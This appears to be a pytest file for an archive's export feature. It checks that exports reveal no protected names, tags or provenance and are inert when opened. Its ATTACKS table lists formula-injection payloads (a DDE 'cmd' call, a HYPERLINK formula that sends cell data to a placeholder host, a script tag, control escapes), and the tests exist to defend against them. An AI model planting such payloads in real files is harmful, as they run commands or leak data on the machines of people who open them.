"""Promises 3 and 8: nothing goes out in any format that was not allowed out, and nothing that goes out does anything when it is opened."""

import base64
import csv
import io
import json
import shutil
from itertools import chain

import openpyxl
import pyarrow.parquet
import pytest

from khronika.archive.exchange.export import ExportOrder, export
from khronika.archive.record.saved_views import save_view
from khronika.archive.record.state import record
from khronika.archive.record.tags import put_tag, subject_of
from khronika.archive.store.archive import Archive
from khronika.disclosure.audience import Audience
from khronika.exchange.exports.export_format import ExportFormat
from khronika.language.romanisation import Scheme, romanise
from khronika.record.event import StateEvent
from khronika.record.recorded import State
from khronika.record.statement_file import parse_statement_file
from khronika.record.team_word import ViewKind
from tests.commands import run
from tests.world import events_of, found

EVERY_STATE = frozenset({State.PROPOSED, State.ACCEPTED, State.DISPUTED})
RECORD = [each for each in ExportFormat if each is not ExportFormat.CASE]
SHORTEST = 5
TAG = "INVENTED-TAG-КАНАРЕЙКА"


def table(path):
    """The rows of a CSV file, without its ends of lines being touched."""
    return list(csv.reader(io.StringIO(path.read_bytes().decode(), newline="")))


def rows_of(path):
    head, *rows = table(path)
    return [dict(zip(head, row, strict=True)) for row in rows]


def texts(value: object):
    if isinstance(value, dict):
        yield from chain.from_iterable(map(texts, value.values()))
    elif isinstance(value, list):
        yield from chain.from_iterable(map(texts, value))
    elif isinstance(value, str) and value:
        yield value


@pytest.fixture(scope="module")
def told(project):
    return json.loads((project / "examples/statements.json").read_text())


@pytest.fixture(scope="module")
def everywhere(demonstration, tmp_path_factory):
    """The demonstration's archive in every format for every audience; the folder of each by format and audience."""
    base = tmp_path_factory.mktemp("exports")
    passphrase = (demonstration.folder / "passphrase.txt").read_text().splitlines()[0]
    folder = shutil.copytree(demonstration.archive, base / "archive")
    with Archive.open(folder, passphrase) as archive:
        batch = events_of(archive, StateEvent)[0].batch
        put_tag(archive, TAG, [subject_of(archive, each) for each in ("A-000001", f"{batch}.1", batch)])
        save_view(archive, f"{TAG} view", ViewKind.SEARCH, {"query": f"{TAG} query"})
        for wanted in RECORD:
            for audience in Audience:
                export(
                    archive,
                    ExportOrder(wanted, audience, EVERY_STATE, recipient="INVENTED recipient"),
                    base / f"{wanted.value}-{audience.value}",
                )
        for audience in (Audience.INSIDE, Audience.COURT):
            export(
                archive,
                ExportOrder(ExportFormat.CASE, audience, items=("A-000001", "A-000003")),
                base / f"case-{audience.value}",
            )
        members = [archive.keyring.member.member]
    return base, members


def readable(folder):
    """Every byte of an export and, of packed formats, every text in it."""
    for path in sorted(folder.iterdir()):
        yield path.name.encode()
        yield path.read_bytes()
        if path.suffix == ".xlsx":
            book = openpyxl.load_workbook(path)
            yield "\n".join(str(cell.value) for sheet in book for row in sheet.rows for cell in row).encode()
        if path.suffix == ".parquet":
            yield json.dumps(
                pyarrow.parquet.read_table(path).to_pylist(), ensure_ascii=False, default=str
            ).encode()


def spellings(text: str):
    for written in {text, text.upper(), text.lower(), *(romanise(text, scheme) for scheme in Scheme)}:
        yield from (
            written.encode(encoding, errors="ignore") for encoding in ("utf-8", "utf-16-le", "cp1251")
        )
        yield json.dumps(written)[1:-1].encode()
        yield base64.b64encode(written.encode())


def leaks(folder, secrets):
    held = b"\n".join(readable(folder))
    return {
        text
        for text in secrets
        if any(written in held for written in spellings(text) if len(written) >= SHORTEST)
    }


def hidden_names(told, *protections):
    hidden = [
        each
        for each in told["entities"].values()
        if each["type"] == "Person" and each.get("protection", "named inside") in protections
    ]
    return {
        word
        for each in hidden
        for name in each.get("names", [])
        for word in [name["value"], *name["value"].split()]
        if len(word) >= SHORTEST
    }


def folders(base, *audiences):
    return [
        path for path in base.iterdir() if path.name.rpartition("-")[2] in {each.value for each in audiences}
    ]


def test_no_name_behind_a_pseudonym_leaves_for_anybody_in_any_format(everywhere, told):
    names = hidden_names(told, "pseudonym")
    assert names
    assert {path.name: leaks(path, names) for path in folders(everywhere[0], *Audience)} == {
        path.name: set() for path in folders(everywhere[0], *Audience)
    }


def test_no_tag_and_no_saved_view_leaves_for_anybody_in_any_format(everywhere):
    base, _ = everywhere
    assert {path.name for path in base.iterdir() if path.name != "archive" and leaks(path, {TAG})} == set()


def test_no_code_of_a_source_no_grade_and_no_insider_leaves_for_anybody(everywhere, told):
    codes = {batch["source"] for batch in told["batches"] if "source" in batch}
    base, members = everywhere
    for path in folders(base, *Audience):
        held = b"\n".join(readable(path))
        assert not [each for each in [*codes, *members, "INVENTED recipient"] if each.encode() in held], (
            path.name
        )
        if (path / "statements.csv").exists():
            assert {row["reliability"] + row["credibility"] for row in rows_of(path / "statements.csv")} == {
                ""
            }


def test_no_provenance_path_or_original_name_leaves_for_anybody(everywhere, demonstration, project):
    material = [path for path in (demonstration.folder / "material").rglob("*") if path.is_file()]
    provenance = {
        text
        for text in texts(json.loads((project / "examples/accession.json").read_text()))
        if len(text) >= SHORTEST
    }
    names = {path.name for path in material} | {str(demonstration.folder)} | provenance
    for path in folders(everywhere[0], *Audience):
        assert leaks(path, names) == set(), path.name


def test_the_press_gets_nothing_by_which_to_tell_that_somebody_has_an_item(everywhere, demonstration):
    passphrase = (demonstration.folder / "passphrase.txt").read_text().splitlines()[0]
    with Archive.open(everywhere[0] / "archive", passphrase) as archive:
        marks = {
            mark for row in archive.index.items() for mark in (row.id, row.sha256.hex(), archive.control(row))
        }
        marks |= archive.index.record.of_types(["Person", "Act", "Facility"])
        marks |= {event.batch for event in events_of(archive, StateEvent)}
    for path in folders(everywhere[0], Audience.PRESS, Audience.PUBLIC):
        assert leaks(path, marks) == set(), path.name
    assert leaks(everywhere[0] / "ftm-court", marks)


def test_no_two_exports_for_the_press_share_an_id(everywhere):
    ids = []
    for name in ("csv-press", "csv-public"):
        rows = rows_of(everywhere[0] / name / "statements.csv")
        ids.append(
            {
                row[column]
                for row in rows
                for column in ("statement", "report", "subject", "entity", "item")
                if row[column]
            }
        )
    assert all(ids)
    assert not ids[0] & ids[1]


def test_the_search_for_leaks_finds_one_that_is_planted(everywhere, tmp_path):
    (tmp_path / "statements.csv").write_text(romanise("Сажинский", Scheme.RUSSIAN_FRENCH))
    assert leaks(tmp_path, {"Сажинский"}) == {"Сажинский"}


ATTACKS = {
    "formula": "=cmd|' /C calc'!A0",
    "link": '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "plus": "+1+cmd|x",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
    "turned": "\u202efdp.exe=1+1",
    "quote": '","=1+1',
    "lines": "one\r\n=1+1",
    "markup": "<script>alert(1)</script>]]><f>1+1</f>",
    "escape": "_x003D_1+1",
    "error": "#REF!",
    "controls": "\x00\x01\x1b[2J\x7f\u009b",
}


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """An archive whose entities and values are attacks on whoever opens a table."""
    base = tmp_path_factory.mktemp("attacked")
    people = {
        key: {"type": "Person", "label": attack, "protection": "public", "names": [{"value": attack}]}
        for key, attack in ATTACKS.items()
    }
    rows = [
        {"id": f"s{n}", "subject": key, "property": "rank", "value": attack}
        for n, (key, attack) in enumerate(ATTACKS.items())
    ]
    batch = {
        "id": "b",
        "attribution": [{"who": "=1+1", "role": "speaker"}],
        "grade": {"reliability": "F", "credibility": "6"},
    }
    file = {"format": "khronika-statements/1", "entities": people, "batches": [batch | {"statements": rows}]}
    with found(base / "archive") as archive:
        assert record(archive, parse_statement_file(json.dumps(file))).refusals == ()
        for wanted in RECORD:
            export(archive, ExportOrder(wanted, Audience.INSIDE, EVERY_STATE), base / wanted.value)
    return base


def test_an_opened_workbook_shows_no_formula_no_link_and_no_error(attacked):
    book = openpyxl.load_workbook(attacked / "xlsx/record.xlsx")
    cells = [cell for sheet in book for row in sheet.rows for cell in row if cell.value is not None]
    assert len(cells) > len(ATTACKS)
    assert {cell.data_type for cell in cells} == {"s", "b"}
    assert not [cell for cell in cells if cell.hyperlink]
    assert ATTACKS["formula"] in {cell.value for cell in cells}


def test_no_cell_of_a_csv_file_begins_like_a_formula_and_none_breaks_out_of_its_cell(attacked):
    for path in (attacked / "csv").iterdir():
        rows = table(path)
        assert len({len(row) for row in rows}) == 1, path.name
        assert len(rows) == len(path.read_text(encoding="utf-8").splitlines()) == len(ATTACKS) + 1
        assert not [cell for row in rows[1:] for cell in row if cell.lstrip()[:1] in tuple("=+-@")]


def test_every_line_of_a_text_format_is_one_whole_object_whatever_stands_in_it(attacked):
    lines = (attacked / "ftm/record.ftm.json").read_bytes().split(b"\n")[:-1]
    assert {name for line in lines for name in json.loads(line)["properties"]["name"]} == set(
        ATTACKS.values()
    )
    json.loads((attacked / "annotations/annotations.jsonld").read_text())


def test_the_command_exports_and_names_no_evidence_when_it_fails(demonstration, copy_of, tmp_path):
    archive = copy_of(demonstration.archive)
    words = [
        "export",
        archive,
        tmp_path / "out",
        "--format",
        "csv",
        "--for",
        "press",
        "--state",
        "proposed",
        *demonstration.passphrase,
    ]
    done = run(*words, "--losses", tmp_path / "losses.json", "--json")
    assert done.returncode == 0, done.stderr
    answer = json.loads(done.stdout)
    assert answer["files"] == sorted(path.name for path in (tmp_path / "out").iterdir())
    account = json.loads((tmp_path / "losses.json").read_text())
    assert account["kept back"] == answer["kept back"] != {}
    again = run(*words)
    assert (again.returncode, again.stdout) == (1, "")
    assert "of that name exists already" in again.stderr
    assert str(tmp_path) not in again.stderr
